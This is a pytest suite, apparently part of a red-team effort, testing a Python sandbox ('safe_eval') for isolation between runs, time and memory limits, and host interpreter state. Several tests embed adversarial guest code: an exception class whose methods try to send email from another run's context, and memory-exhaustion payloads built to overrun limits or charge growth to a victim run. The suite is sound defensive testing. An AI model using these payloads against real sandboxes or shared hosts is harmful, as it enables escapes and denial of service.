SUSPENDED_IN_A_CYCLE = {
    "bound-in-its-own-namespace": "def g():\n    big = 'x' * 1_000_000\n    yield 1\nit = g()\nnext(it)\n",
    "kept-in-a-list-global": "def g():\n    yield 1\nbox = [g()]\nnext(box[0])\n",
    "stored-on-the-object-its-method-generator-serves": (
        "class Feed:\n    def __init__(self):\n        self.it = self.gen()\n        next(self.it)\n"
        "    def gen(self):\n        yield 1\n        yield 2\nfeed = Feed()\n"),
    "holding-itself-in-a-local": "box = []\ndef g():\n    me = box[0]\n    yield 1\nbox.append(g())\nnext(box[0])\n",
    "closure-cell-of-an-inner-function": (
        "def g():\n    state = [0]\n    def bump():\n        state[0] += 1\n    handlers.append(bump)\n"
        "    yield 1\nhandlers = []\nit = g()\nnext(it)\n"),
}


@pytest.mark.parametrize("code", [pytest.param(v, id=k) for k, v in SUSPENDED_IN_A_CYCLE.items()])
def test_a_suspended_generator_in_a_cycle_with_its_run_dies_when_the_host_drops_env(code: str) -> None:
    import weakref

    env: dict[str, Any] = {}
    safe_eval.safe_exec("class Marker:\n    pass\nmarker = Marker()\n" + code, env)
    alive = weakref.ref(env["marker"])  # something only the run's namespace holds
    env.clear()
    del env
    gc.collect()
    assert alive() is None


def test_a_generator_resumed_after_its_frame_was_parked_sees_its_own_state() -> None:
    env: dict[str, Any] = {}
    safe_eval.safe_exec("def count(start):\n    n = start\n    while True:\n        n += 1\n"
                        "        got = yield n\n        if got:\n            n = got\nc = count(10)\nnext(c)\n", env)
    assert [safe_eval.safe_eval(e, env) for e in ("next(c)", "c.send(100)", "next(c)")] == [12, 101, 102]


# run A (the agent policy) hands the host a function and a generator that raise A's own
# exception class, whose methods mail; run B (the default policy) catches it and uses it
A_RAISER = ("class Boom(Exception):\n    def __str__(self):\n        return " + SEND + "\n"
            "    def leak(self):\n        return " + SEND + "\n"
            "    @property\n    def info(self):\n        return " + SEND + "\n"
            "def on_event(evt):\n    raise Boom('x')\n"
            "def chained(evt):\n    try:\n        on_event(evt)\n    except Boom as e:\n"
            "        raise ValueError('wrapped') from e\n"
            "def feed():\n    yield 1\n    raise Boom('y')\n")
RAISED_BY = {
    "a-function": ("on_event('hello')", "on_event"),
    "a-generator": ("next(feed)\nnext(feed)", "feed()"),
    "a-function-raising-a-builtin-from-it": ("chained('hello')", "chained"),
}
USES = {
    "str": "str(e)", "dunder-called-directly": "e.__str__()", "method": "e.leak()",
    "property": "e.info", "format": "f'{e}'", "its-cause": "e.__cause__.leak()",
}


@pytest.mark.parametrize("use", [pytest.param(v, id=k) for k, v in USES.items()])
@pytest.mark.parametrize(("call", "made"), [pytest.param(*v, id=k) for k, v in RAISED_BY.items()])
def test_a_runs_exception_caught_by_another_runs_except_clause_never_runs_its_methods_there(
        call: str, made: str, use: str) -> None:
    sent, send_email = _mailbox_of_three()
    on_event, chained, feed = Evaluator("agent").eval(A_RAISER + f"[on_event, chained, {made}]",
                                                      {"send_email": send_email})
    code = f"try:\n{_indent(call)}\nexcept Exception as e:\n    r = {use}\nr"
    with pytest.raises(PolicyViolation, match="exception of class 'Boom' was made by another run"):
        Evaluator().eval(code, {"on_event": on_event, "chained": chained, "feed": feed,
                                "send_email": send_email})
    assert sent == []


def test_a_runs_exception_still_reaches_a_run_of_the_same_policy_as_it_is() -> None:
    ev = Evaluator()
    fail = ev.eval("class Boom(Exception):\n    def why(self):\n        return 'boom'\n"
                   "def fail():\n    raise Boom()\nfail")
    assert ev.eval("try:\n    fail()\nexcept Exception as e:\n    r = e.why()\nr", {"fail": fail}) == "boom"


# -- a host iterator in env is the host's own code, as a tool is ------------------------------
def test_a_host_iterator_parking_its_request_on_io_is_never_hit_by_the_watchdog_in_host_code() -> None:
    from safe_eval.errors import TimeLimit

    hub = greenlet.getcurrent()

    def feed() -> Any:
        hub.switch("waiting for io")  # a gevent-style read: the hub serves others meanwhile
        yield 1

    def request_a() -> Any:
        try:
            return safe_eval.safe_eval("[x for x in items]", {"items": feed()}, limits={"time": 0.1})
        except SafeEvalError as e:
            return e
    ga = greenlet.greenlet(request_a)
    assert ga.switch() == "waiting for io"
    _spin_host_code(0.6)  # several watchdog periods past A's deadline: nothing may be raised here
    assert isinstance(ga.switch(), TimeLimit)  # A itself stops once back, at its first checkpoint


# -- a watchdog interrupt lands only where the run's own code runs ------------------------------
def test_what_the_collector_frees_during_a_run_runs_no_host_python_code_an_interrupt_could_land_in() -> None:
    # earlier tests' cyclic garbage collected first: a host generator an earlier test handed a
    # run (``feed`` above) waits in a cycle of that run's frames for the next collection, and
    # closing it runs the test's own Python code (the 3.12 coverage step of CI collected it here)
    gc.collect()
    ran: list[str] = []

    def collect() -> int:  # the collector running mid-run (as an allocation would trigger it)
        for _ in range(3):  # a tool running a nested evaluation of its own, on an env it drops
            safe_eval.safe_exec("def f():\n    return 1", {})

        def profile(frame: Any, event: str, arg: Any) -> None:
            if event == "call":
                ran.append(frame.f_code.co_qualname)
        sys.setprofile(profile)
        try:
            return gc.collect()
        finally:
            sys.setprofile(None)
    code = ("for i in range(50):\n    ns = {}\n    exec('class C:\\n    pass\\ndef f():\\n    return C', ns)\n"
            "    ns = None\ncollect() > 0")
    assert safe_eval.safe_eval(code, {"collect": collect}) is True
    assert ran == []


def test_a_function_made_under_the_same_policy_with_another_audit_hook_is_audited_by_its_own() -> None:
    # a per-tenant audit trail (or a quota kept in the hook): tenant A's function, called in
    # tenant B's run, is B's tool call, and the email it sends is A's to record
    sent: list[str] = []
    audit_a: list[Any] = []
    audit_b: list[Any] = []

    def send_email(to: str, subject: str, body: str) -> str:
        sent.append(to)
        return "ok"

    a = Evaluator(audit=audit_a.append)
    b = Evaluator(audit=audit_b.append)
    handler = a.eval("def on_event(evt):\n    return send_email(to='ops@example.com', subject='x', body=evt)\n"
                     "on_event", {"send_email": send_email})
    assert b.eval("handler('hello')", {"handler": handler, "send_email": send_email}) == "ok"
    assert sent == ["ops@example.com"]
    assert [getattr(e, "name", None) for e in audit_a] == ["send_email"]
    assert [getattr(e, "name", None) for e in audit_b] == ["handler"]


# -- rt-limits: every run is measured from its start and checked at its end ----------------
# a slice is a copy no guard prices (linear in what the run already holds): a few hundred of
# them are a few hundred ops, under one chunk, so no slow check samples the run's memory


@pytest.mark.timeout(120)
def test_a_run_that_never_reaches_a_slow_check_is_stopped_by_the_watchdog_while_it_grows() -> None:
    # 600 MB of copies of a 2 MB string the host passed in (no priced allocation, about 1 200
    # ops): the watchdog must see the run from its start, not from a first sample that never
    # comes (the run then finished, its copies dropped at its end, and returned 300)
    _trim_heap()
    with pytest.raises(MemoryLimit) as info:
        safe_eval.safe_eval("keep = []\nfor i in range(300):\n    keep.append(s[i:])\nlen(keep)",
                            {"s": "x" * 2_000_000}, limits={"memory": 16 * 2**20, "time": 30})
    assert info.value.line == 3


@pytest.mark.timeout(120)
def test_a_run_never_returns_a_result_larger_than_its_memory_limit() -> None:
    # two copies of a 10 MB string: a 20 MB result under 16 MB, made in two ops
    _trim_heap()
    with pytest.raises(MemoryLimit):
        safe_eval.safe_eval("(s[1:], s[2:])", {"s": "x" * 10_000_000}, limits={"memory": 16 * 2**20, "time": 30})


def _sub_agent(code: str, memory: int) -> str:
    try:  # a tool that evaluates code itself: a run nested in the caller's, with its own budget
        r = safe_eval.safe_eval(code, {}, limits={"memory": memory, "time": 30, "ops": 10**8})
        return repr(r) if isinstance(r, int) else type(r).__name__
    except SafeEvalError as e:
        return type(e).__name__


@pytest.mark.timeout(120)
def test_a_run_nested_in_a_tool_is_checked_at_its_end_like_any_run() -> None:
    _trim_heap()
    env = {"sub_agent": lambda code: _sub_agent(code, 16 * 2**20)}
    policy = parse_policy("policy p\nallow sub_agent(*)\n")
    out = safe_eval.safe_eval("sub_agent(\"s = 'x' * 10_000_000\\n(s, s[1:])\")", env, policy=policy)
    assert out == "MemoryLimit"


@pytest.mark.timeout(120)
def test_what_a_run_nested_in_a_tool_announced_never_pays_for_a_later_runs_growth() -> None:
    # the nested run announces 80 MB (width * 4) and allocates 20 MB; a later run building
    # 96 MB in pieces too small to announce must meet its 64 MiB limit all the same
    _trim_heap()
    env = {"sub_agent": lambda code: _sub_agent(code, 200 * 2**20)}
    policy = parse_policy("policy p\nallow sub_agent(*)\n")
    assert safe_eval.safe_eval("sub_agent(\"len(format(1, '>20000000'))\")", env, policy=policy) == "20000000"
    with pytest.raises(MemoryLimit):
        safe_eval.safe_eval("keep = []\nfor i in range(12_000):\n    keep.append([i] * 1000)\nlen(keep)",
                            limits={"memory": 64 * 2**20, "time": 30, "ops": 10**8})


# -- rt-limits: the ledger charges each run what it grew, never another run's growth or frees --
def _side_by_side(runs: dict[str, tuple[str, dict[str, Any]]], policy: str, memory: int) -> dict[str, Any]:
    outcome: dict[str, Any] = {}

    def run(name: str, code: str, env: dict[str, Any]) -> None:
        try:
            outcome[name] = safe_eval.safe_eval(code, env, policy=parse_policy(policy),
                                                limits=Limits(memory=memory, time=60, ops=10**9))
        except SafeEvalError as e:
            outcome[name] = e

    threads = [threading.Thread(target=run, args=(n, c, e)) for n, (c, e) in runs.items()]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return outcome


@pytest.mark.timeout(120)
def test_an_over_estimated_announcement_of_a_parked_run_never_pays_for_another_runs_growth() -> None:
    # V announces 80 MB (a width of 4-byte characters) for a 20 MB ASCII string, then waits in
    # a tool while A builds 64 MB from pieces too small to announce: A's growth is A's
    _trim_heap()
    parked, done = threading.Event(), threading.Event()

    def park() -> None:
        parked.set()
        done.wait(30)

    def go() -> None:
        parked.wait(30)

    def finished() -> None:
        done.set()

    v = "keep = [0] * 3_000_000\nt = format(1, '>20000000')\npark()\ny = [2] * 200_000\nlen(t)"
    a = ("go()\nkeep = []\nfor i in range(8000):\n    keep.append([i] * 1000)\nfor _ in range(5000):\n"
         "    pass\nfinished()\nlen(keep)")
    outcome = _side_by_side({"V": (v, {"park": park}), "A": (a, {"go": go, "finished": finished})},
                            "policy p\nallow park(*)\nallow go(*)\nallow finished(*)\n", 100 * 2**20)
    assert outcome == {"V": 20_000_000, "A": 8000}


@pytest.mark.timeout(120)
def test_memory_another_run_frees_is_never_credited_to_the_run_that_samples_next() -> None:
    # B's run returns 80 MB (charged to B); the host then drops the result, freeing it (one
    # mapping: the RSS falls at once) while A waits; A then samples, and builds 80 MB itself,
    # twice: A holds 160 MB under a 100 MiB limit unless B's free went to A
    rounds = 2
    turn_b = [threading.Event() for _ in range(rounds)]
    turn_a = [threading.Event() for _ in range(rounds)]

    def handover(i: int) -> None:
        turn_b[i].set()
        turn_a[i].wait(30)

    a = (f"keep = []\nfor i in range({rounds}):\n    handover(i)\n    for _ in range(5000):\n        pass\n"
         "    keep.append([0] * 10_000_000)\nsum(len(p) for p in keep)")
    b = "x = [0] * 10_000_000\nfor _ in range(5000):\n    pass\nx"
    policy = "policy p\nallow handover(*)\n"
    outcome: dict[str, Any] = {}

    def run_a() -> None:
        outcome.update(_side_by_side({"A": (a, {"handover": handover})}, policy, 100 * 2**20))
        for e in turn_b:  # however A ended, no B waits for it
            e.set()

    def run_bs() -> None:
        for i in range(rounds):
            turn_b[i].wait(30)
            result = _side_by_side({"B": (b, {})}, policy, 100 * 2**20)["B"]
            outcome[f"B{i}"] = len(result) if isinstance(result, list) else result
            del result  # B's 80 MB result freed by the host, after B's run (the run's globals
            gc.collect()  # hold it in a cycle)
            turn_a[i].set()

    _trim_heap()
    threads = [threading.Thread(target=run_a), threading.Thread(target=run_bs)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert all(outcome[f"B{i}"] == 10_000_000 for i in range(rounds))
    assert isinstance(outcome["A"], MemoryLimit)


@pytest.mark.timeout(120)
def test_runs_refused_an_allocation_up_front_make_the_host_run_no_full_collection() -> None:
    # a refused allocation ends a run in a millisecond: a full collection of the host's heap
    # after each (the GIL held for as long as the host's heap takes) would be host work any
    # guest buys at will
    full: list[int] = []

    def count(phase: str, info: dict[str, Any]) -> None:
        if phase == "start" and info["generation"] == 2:
            full.append(1)

    gc.collect()
    gc.callbacks.append(count)
    try:
        for _ in range(20):
            with pytest.raises(MemoryLimit):
                safe_eval.safe_eval("bytes(10**9)")
    finally:
        gc.callbacks.remove(count)
    assert full == []


@pytest.mark.timeout(120)
def test_runs_that_grow_to_their_limit_make_full_collections_a_bounded_share_of_the_hosts_time() -> None:
    # a host heap of 3 M objects: a full collection takes a good part of a second; ten runs that
    # grow to their 8 MB limit take milliseconds each, far less than ten times the first one's
    full: list[int] = []

    def count(phase: str, info: dict[str, Any]) -> None:
        if phase == "start" and info["generation"] == 2:
            full.append(1)

    host_cache = [{"k": i, "v": [i]} for i in range(1_000_000)]
    gc.collect()
    gc.callbacks.append(count)
    try:
        for _ in range(10):
            with pytest.raises(MemoryLimit):
                safe_eval.safe_eval("keep = []\nwhile True:\n    keep.append([0] * 100_000)\n",
                                    limits={"memory": 8 * 2**20})
    finally:
        gc.callbacks.remove(count)
        del host_cache
    assert len(full) <= 2  # (none when an earlier full collection is recent enough)


@pytest.mark.timeout(120)
def test_another_runs_chain_of_expanding_routines_never_stops_an_innocent_run() -> None:
    # V needs about 130 MB of its 256 MiB; A's six-stage chain would grow to 583 MB within one
    # op chunk, unsampled: the growth that reaches V's sample must be A's, refused up front
    _trim_heap()
    outcome: dict[str, Any] = {}
    v = ("import statistics\ndata = [float(i) for i in range(4_000_000)]\n"
         "statistics.fmean(data) + statistics.fmean(data)")
    a = "('x' * 200_000).encode('utf-32')" + ".hex(' ').encode()" * 6

    def run(name: str, code: str, memory: int, wait: float) -> None:
        time.sleep(wait)  # A starts while V is inside fmean
        try:
            outcome[name] = safe_eval.safe_eval(code, limits=Limits(memory=memory, time=60, ops=10**8))
        except SafeEvalError as e:
            outcome[name] = e

    threads = [threading.Thread(target=run, args=("V", v, 256 * 2**20, 0.0)),
               threading.Thread(target=run, args=("A", a, 64 * 2**20, 1.0))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert outcome["V"] == 3999999.0
    assert isinstance(outcome["A"], MemoryLimit)
# -- process-global interpreter state: the host recursion limit ---------------------------
def test_a_run_that_ends_never_lowers_the_host_recursion_limit_under_a_run_still_in_progress() -> None:
    # ``sys.setrecursionlimit`` is one value for the whole process: a run restoring the value it
    # saw at its start would take room away from a concurrent run deep in recursion (CPython
    # aborts the process past limit + 50), or leave the host another run's raised limit
    host_limit = sys.getrecursionlimit()
    a_running, b_running, a_done = threading.Event(), threading.Event(), threading.Event()
    seen: dict[str, int] = {}
    results: list[Any] = []
    policy = parse_policy("policy p\nallow started(*)\nallow after_a(*)\n")

    def started() -> None:
        seen["in_a"] = sys.getrecursionlimit()
        a_running.set()
        assert b_running.wait(30)  # A ends while B is in progress

    def after_a() -> None:
        b_running.set()
        assert a_done.wait(30)
        seen["in_b_after_a"] = sys.getrecursionlimit()

    def run(code: str, env: dict[str, Any]) -> None:
        try:
            results.append(safe_eval.safe_eval(code, env, policy=policy, limits=Limits(time=30)))
        except SafeEvalError as e:
            results.append(e)

    a = threading.Thread(target=run, args=("started()\n1", {"started": started}))
    b = threading.Thread(target=run, args=("after_a()\n2", {"after_a": after_a}))
    a.start()
    assert a_running.wait(30)
    b.start()
    a.join()
    a_done.set()
    b.join()
    assert sorted(results) == [1, 2]
    assert seen["in_b_after_a"] >= seen["in_a"] > host_limit
    assert sys.getrecursionlimit() == host_limit


_DEEP_RUN_WHILE_A_SHORT_ONE_ENDS = """
import sys, threading, time
import safe_eval
def a():   # a short run: it ends while B is 900 guest calls deep
    safe_eval.safe_eval("import time\\ntime.sleep(0.5)\\n1", {}, limits={"time": 10})
def b():
    time.sleep(0.1)
    print(safe_eval.safe_eval(
        "import time\\ndef f(n):\\n    if n == 0:\\n        time.sleep(1.0)\\n        return 0\\n"
        "    return f(n - 1) + 1\\nf(900)\\n", {}, limits={"time": 20, "recursion": 1000}))
ta, tb = threading.Thread(target=a), threading.Thread(target=b)
ta.start(); tb.start(); ta.join(); tb.join()
print(sys.getrecursionlimit())
"""


@pytest.mark.timeout(120)
def test_a_short_run_ending_under_a_concurrent_deep_run_leaves_the_host_alive() -> None:
    # in a child process: the failure is CPython's fatal "Cannot recover from stack overflow"
    import os
    import subprocess

    p = subprocess.run([sys.executable, "-c", _DEEP_RUN_WHILE_A_SHORT_ONE_ENDS], capture_output=True,
                       text=True, timeout=100, env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
    assert p.returncode == 0, p.stderr[-2000:]
    assert p.stdout.split() == ["900", "1000"]


# -- process-global interpreter state: the warning filters --------------------------------
_RE_RUN = ("import re\nn = 0\nfor i in range(20):\n    re.compile('w' + str(k) + '_' + str(i) + '[ab]+')\n"
           "for p in ('[[a]', '[a--b]', '[a&&b]'):\n    try:\n        re.compile(p)\n"
           "    except re.error:\n        n += 1\nn")


def test_a_run_compiling_patterns_never_changes_the_process_warning_filters(monkeypatch: pytest.MonkeyPatch) -> None:
    # ``warnings.filters`` is one list for every thread: a run that swaps it (catch_warnings)
    # turns the host's warnings into errors (or silences them) on every thread meanwhile, and
    # two such runs restore each other's lists, leaving one behind for good. Every change
    # through the warnings API (catch_warnings, simplefilter, filterwarnings, resetwarnings)
    # goes through ``warnings._filters_mutated``: counted here.
    changes: list[int] = []
    mutated = warnings._filters_mutated  # type: ignore[attr-defined]

    def counted() -> None:
        changes.append(1)
        mutated()

    before = list(warnings.filters)
    monkeypatch.setattr(warnings, "_filters_mutated", counted)
    assert safe_eval.safe_eval(_RE_RUN, {"k": 1}) == 3  # the ambiguous patterns still refused
    # what the compiler warns about, in a guest exec string and in the program itself
    assert safe_eval.safe_eval("exec('y = 2 is 1')\nx is 'a'", {"x": 2}) is False
    with pytest.raises(PolicyError, match="invalid escape sequence"):  # a policy read meanwhile
        parse_policy('policy p\nallow f(x matches "\\d+")\n')
    monkeypatch.undo()
    assert changes == []
    assert warnings.filters == before


@pytest.mark.timeout(120)
def test_concurrent_runs_compiling_patterns_leave_the_host_warning_filters_as_they_were() -> None:
    before = list(warnings.filters)
    changed: list[Any] = []
    done = threading.Event()

    def watch() -> None:  # host code on another thread, reading its filters meanwhile
        while not done.is_set():
            if warnings.filters != before:
                changed.append(list(warnings.filters))
                return

    def runs(k: int) -> None:
        for j in range(3):
            safe_eval.safe_eval(_RE_RUN, {"k": k * 100 + j})

    watcher = threading.Thread(target=watch)
    workers = [threading.Thread(target=runs, args=(k,)) for k in range(3)]
    old = sys.getswitchinterval()
    sys.setswitchinterval(1e-4)
    try:
        watcher.start()
        for t in workers:
            t.start()
        for t in workers:
            t.join()
    finally:
        done.set()
        watcher.join()
        sys.setswitchinterval(old)
    assert changed == []
    assert warnings.filters == before


def test_what_the_compiler_warns_about_runs_under_a_host_that_turns_warnings_into_errors() -> None:
    # the compile check must neither show the host these warnings nor stop on them (``-W error``)
    code = ("exec('y = 2 is 1')\nf = (lambda: 0) if x is 1 else None\n"
            "g = (1, 2)(3) if x is 'a' else [1, 2]['k'] if x is 3 else 4\nassert (g, 'never empty')\ng")
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("error")
        assert safe_eval.safe_eval(code, {"x": 2}) == 4
    assert seen == []


# -- caches outside the run bookkeeping: CPython's and regex's pattern caches ---------------
_PATTERNS_RUN = """
import re
n = 0
for i in range(30):
    p = re.compile('(?:' + str(k * 1000 + i) + ')' + 'a' * 9000)
    n += len(p.pattern)
n
"""


@pytest.mark.timeout(120)
def test_patterns_runs_compiled_are_not_kept_by_the_regular_expression_modules_caches() -> None:
    # only the curated ``re``'s own cache, bounded in bytes (8 MiB), may keep compiled patterns
    gc.collect()
    before = _rss()
    for k in range(4):
        expected = sum(len(f"(?:{k * 1000 + i})") + 9000 for i in range(30))
        assert safe_eval.safe_eval(_PATTERNS_RUN, {"k": k}, limits={"ops": 10**9, "time": 60}) == expected
    gc.collect()
    assert _rss() - before < 16 * 2**20


def test_a_runs_patterns_and_templates_leave_no_entry_in_host_caches() -> None:
    import re

    rx = sys.modules["regex._main"]
    code = ("import re\nm = re.compile(r'(q)(u)(?P<x>ux)' + k).search('quux' + k)\n"
            "[m.expand(r'\\2\\1' + k), re.sub(r'(q)(u)x' + k, r'\\2' + k, 'qux' + k), m.group('x')]")
    caches = (re._cache, rx._cache, rx._locale_sensitive, rx._replacement_cache)
    # CPython's template cache: ``_compile_repl`` up to 3.11, ``_compile_template`` from 3.12
    templates: Any = getattr(re, "_compile_template", None) or getattr(re, "_compile_repl")
    before = [dict(c) for c in caches], templates.cache_info().currsize
    marker = "zq81723"
    assert safe_eval.safe_eval(code, {"k": marker}) == [f"uq{marker}", f"u{marker}", "ux"]
    after = [dict(c) for c in caches], templates.cache_info().currsize
    assert [k for c in after[0] for k in c if marker in repr(k)] == []
    assert after[1] == before[1]


# -- the watchdog in guest code a tool calls back ------------------------------------------
_CALLBACK_IN_HOST_PYTHON = ("import textwrap\ndef work():\n    return len(textwrap.wrap('a' * 500_000, 1))\n"
                            "apply(work)")


@pytest.mark.timeout(120)
@pytest.mark.parametrize("swallows", [False, True], ids=["plain-tool", "tool-swallowing-errors"])
def test_guest_code_a_tool_calls_back_is_stopped_by_the_watchdog_at_the_time_limit(swallows: bool) -> None:
    # the tool's call is host code (off the CPU: never interrupted); the guest function it
    # calls back is the run's code again, and host Python it calls is the watchdog's to stop
    def apply(f: Any) -> Any:
        if not swallows:
            return f()
        try:
            return f()
        except Exception:
            return None

    start = time.monotonic()
    with pytest.raises(TimeLimit):
        safe_eval.safe_eval(_CALLBACK_IN_HOST_PYTHON, {"apply": apply}, limits={"time": 0.5})
    assert time.monotonic() - start < 2.5


def test_a_tool_is_never_interrupted_in_its_own_code_after_a_guest_callback_returns() -> None:
    finished: list[bool] = []

    def apply(f: Any) -> Any:
        f()
        deadline = time.monotonic() + 0.8  # the tool's own work, past the run's deadline
        while time.monotonic() < deadline:
            pass
        finished.append(True)
        return 1

    with pytest.raises(TimeLimit):
        safe_eval.safe_eval("def f():\n    return 0\napply(f)\nwhile True:\n    pass", {"apply": apply},
                            limits={"time": 0.3})
    assert finished == [True]


# -- red team, fourth round: run ends, host processes ---------------------------------------
@pytest.mark.timeout(600)
def test_what_many_short_runs_grow_is_never_charged_to_a_concurrent_run() -> None:
    # Each short run keeps 1 MB in its session's env and ends within a millisecond, before it
    # could have made its limit resident: its growth must still be its own, never left for the
    # next run that samples (the victim, which allocates nothing, paid 120 MB: MemoryLimit)
    stop = threading.Event()
    outcome: dict[str, Any] = {}

    def victim() -> None:
        code = "n = 0\nwhile not done():\n    for _ in range(2000):\n        n += 1\nn > 0"
        try:
            outcome["victim"] = safe_eval.safe_eval(
                code, {"done": lambda: stop.wait(0.001)}, policy=parse_policy("policy p\nallow done(*)\n"),
                # no clock limit of its own: it spins until the short runs are over (its tool
                # waits a millisecond, handing the GIL to them: spinning alone, it held the
                # 120 runs to a minute on a loaded 2-core machine, 3.10 CI: TimeLimit at 60 s)
                limits=Limits(memory=48 * 2**20, time=550, ops=10**12))
        except SafeEvalError as e:
            outcome["victim"] = e

    worker = threading.Thread(target=victim)
    worker.start()
    session = Evaluator(limits={"memory": 256 * 2**20, "time": 10})
    env: dict[str, Any] = {"keep": []}
    try:
        for _ in range(120):
            session.exec("keep.append(b'x' * 1_000_000)", env)
            time.sleep(0.002)  # the host between requests: the victim runs and samples
    finally:
        stop.set()
        worker.join()
    assert (len(env["keep"]), outcome["victim"]) == (120, True)


# The host imports greenlet on another thread while a run is in progress (its first guest
# generator, or the host's own gevent): ``greenlet`` is in sys.modules, partially initialised,
# until its body has run, and the run's error conversion read its exception classes from there
# (AttributeError out of safe_eval).
_GREENLET_IMPORTED_MEANWHILE = """
import importlib.abc, importlib.util, sys, threading
import safe_eval
assert "greenlet" not in sys.modules
started, release = threading.Event(), threading.Event()

class SlowGreenlet(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name != "greenlet":
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(name)
        real = spec.loader.exec_module
        def exec_module(module):  # held open while the run converts its error
            started.set()
            release.wait(10)
            real(module)
        spec.loader.exec_module = exec_module
        return spec

sys.meta_path.insert(0, SlowGreenlet())
importer = threading.Thread(target=lambda: __import__("greenlet"))
def begin():
    importer.start()
    started.wait(10)
for code in ("begin()\\n1 / 0", "x = 1"):
    try:
        print(repr(safe_eval.safe_eval(code, {"begin": begin})))
    except safe_eval.SafeEvalError as e:
        print(type(e).__name__)
    except BaseException as e:
        print("host", type(e).__name__, e)
    release.set()
importer.join()
"""


@pytest.mark.timeout(60)
def test_a_run_ending_while_the_host_imports_greenlet_raises_only_safe_eval_errors() -> None:
    import os
    import subprocess

    p = subprocess.run([sys.executable, "-c", _GREENLET_IMPORTED_MEANWHILE], capture_output=True, text=True,
                       timeout=50, env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
    assert (p.returncode, p.stdout.split()) == (0, ["GuestError", "None"]), p.stderr[-2000:]
